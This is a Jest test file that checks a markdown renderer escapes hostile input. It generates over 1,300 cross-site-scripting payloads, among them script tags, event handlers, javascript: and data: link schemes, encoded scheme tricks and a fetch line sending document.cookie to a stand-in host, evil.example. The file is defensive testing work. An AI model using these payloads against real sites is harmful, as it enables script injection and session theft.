import { describe, expect, it } from '@jest/globals';
import { render } from '../web/markup.js';
import { wordsFor } from '../web/words.js';
import { renderMarkdown } from './markdown.js';

const shown = (text: string): string => render(renderMarkdown(text, wordsFor('en')));

/** Tags that the renderer may write; all else in its output is text. */
const TAGS = new Set(['p', 'h2', 'h3', 'h4', 'h5', 'h6', 'a', 'em', 'strong', 's', 'code', 'pre', 'ul', 'ol', 'li', 'blockquote', 'hr', 'br', 'div', 'table', 'thead', 'tbody', 'tr', 'th', 'td']);
const ATTRIBUTES = new Set(['href', 'rel', 'title', 'class', 'role', 'tabindex', 'aria-label', 'start']);
const SAFE_HREF = /^(https?:\/\/|mailto:|tel:|\/(?![/\\])|#)/i;

/** What in this markup could run, load or leave the rails. Reads tags as the HTML tokenizer does: `<` and a letter begin one. */
const harmIn = (html: string): string[] => {
  const harm: string[] = [];
  for (const [, name, attributes] of html.matchAll(/<\/?([a-z][^\s/>]*)((?:"[^"]*"|[^">])*)>/gi)) {
    if (!TAGS.has(name!.toLowerCase())) harm.push(`<${name}>`);
    for (const [, attribute, value] of attributes!.matchAll(/([^\s=/"]+)(?:="([^"]*)")?/g)) {
      if (!ATTRIBUTES.has(attribute!.toLowerCase())) harm.push(attribute!);
      if (attribute === 'href' && !SAFE_HREF.test(value!)) harm.push(`href ${value}`);
    }
  }
  return harm;
};

const ACTS = ['alert(1)', 'alert`1`', 'eval(name)', 'fetch("//evil.example/"+document.cookie)'];
const TAGGED = (act: string): string[] => [
  `<script>${act}</script>`, `<img src=x onerror=${act}>`, `<svg onload=${act}>`, `<svg><script>${act}</script></svg>`, `<iframe src="javascript:${act}"></iframe>`, `<a href="javascript:${act}">x</a>`,
  `<body onload=${act}>`, `<details open ontoggle=${act}>x</details>`, `<math><mtext><table><mglyph><style><img src onerror=${act}></style>`, `<object data="javascript:${act}"></object>`,
  `<base href="//evil.example/">${act}`, `<meta http-equiv=refresh content="0;url=javascript:${act}">`, `<style>@import '//evil.example'</style>${act}`, `<form action="javascript:${act}"><button>x</button></form>`, `<input autofocus onfocus=${act}>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`, `<!--><img src=x onerror=${act}>-->`, `<![CDATA[<img src=x onerror=${act}>]]>`, `<?xml ${act}?>`, `<x onclick=${act}>x</x>`, `</p><script>${act}</script>`, `<ScRiPt>${act}</sCrIpT>`, `<script\n>${act}</script>`, `<scr<script>ipt>${act}</script>`,
];
const SCHEMES = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', '\u0001javascript:', ' javascript:', 'javascript&colon;', '&#106;avascript:', '&#x6A;avascript:', 'javascript&#58;', 'vbscript:', 'data:text/html,', 'data:image/svg+xml,', 'file:///', 'blob:', 'filesystem:', 'view-source:javascript:', '//evil.example/', '/\\evil.example/', '\\\\evil.example\\', 'jar:', 'feed:javascript:', 'ms-its:', 'intent:'];
const LINKS = (address: string): string[] => [`[x](${address})`, `[x](<${address}>)`, `<${address}>`, `![x](${address})`, `[x]: ${address}\n\n[x]`, `[x](${address} "t\\" onmouseover=alert(1) ")`, `[![x](${address})](${address})`, `# [x](${address})`, `| [x](${address}) |\n|---|\n| ${address} |`];
const FRAMES = [(payload: string) => payload, (payload: string) => `- ${payload}`, (payload: string) => `> ${payload}`, (payload: string) => `# ${payload}`, (payload: string) => `a ${payload} b`, (payload: string) => `\`\`\`${payload}\n${payload}\n\`\`\``, (payload: string) => `|${payload}|\n|:-:|\n|${payload}|`];
const payloads = [...ACTS.flatMap(TAGGED).flatMap(payload => FRAMES.map(frame => frame(payload))), ...SCHEMES.flatMap(scheme => ACTS.slice(0, 3).flatMap(act => LINKS(`${scheme}${act}`)))];

describe('an article’s text', () => {
  it('runs nothing, whatever was written into it', () => {
    expect(payloads.length).toBeGreaterThan(1_300);
    expect(payloads.flatMap(payload => harmIn(shown(payload)).map(harm => `${harm} by ${payload}`))).toEqual([]);
  });

  it('is seen to be harmful by this test when it is', () => {
    for (const bad of ['<script>', '<img src="x">', '<p onclick="x">', '<a href="javascript:x">', '<a href="//evil">', '<td style="background:url(x)">']) expect(harmIn(bad)).not.toEqual([]);
  });

  it('has its headings below the page’s own', () => {
    expect(shown('# One\n\n###### Six')).toBe('<h2>One</h2>\n<h6>Six</h6>\n');
  });

  it('links outside without telling from where, and inside plainly', () => {
    expect(shown('[a](https://example.com) [b](/help/x) [c](mailto:a@example.com)')).toBe('<p><a href="https://example.com" rel="noopener noreferrer nofollow">a</a> <a href="/help/x">b</a> <a href="mailto:a@example.com">c</a></p>\n');
  });

  it('shows the words of a picture, and no picture', () => {
    expect(shown('![A <b>map</b>](https://evil.example/x.png)')).not.toMatch(/img|evil/);
  });

  it('lets tables and code scroll inside, reachable by keyboard', () => {
    expect(shown('|a|\n|-|\n|b|')).toMatch(/^<div class="scroll" role="group" tabindex="0" aria-label="[^"]+"><table>/);
    expect(shown('```js" onload="x\n<b>\n```')).toMatch(/^<div class="scroll"[^>]*><pre><code>&lt;b&gt;\n<\/code><\/pre><\/div>/);
  });

  it('is rendered quickly, however it nests', () => {
    const begin = performance.now();
    for (const deep of ['>'.repeat(20_000), '['.repeat(20_000), '*a '.repeat(15_000), '- '.repeat(20_000), '`'.repeat(20_000), '![['.repeat(15_000), '|'.repeat(20_000)]) shown(deep);
    expect(performance.now() - begin).toBeLessThan(10_000);
  });
});
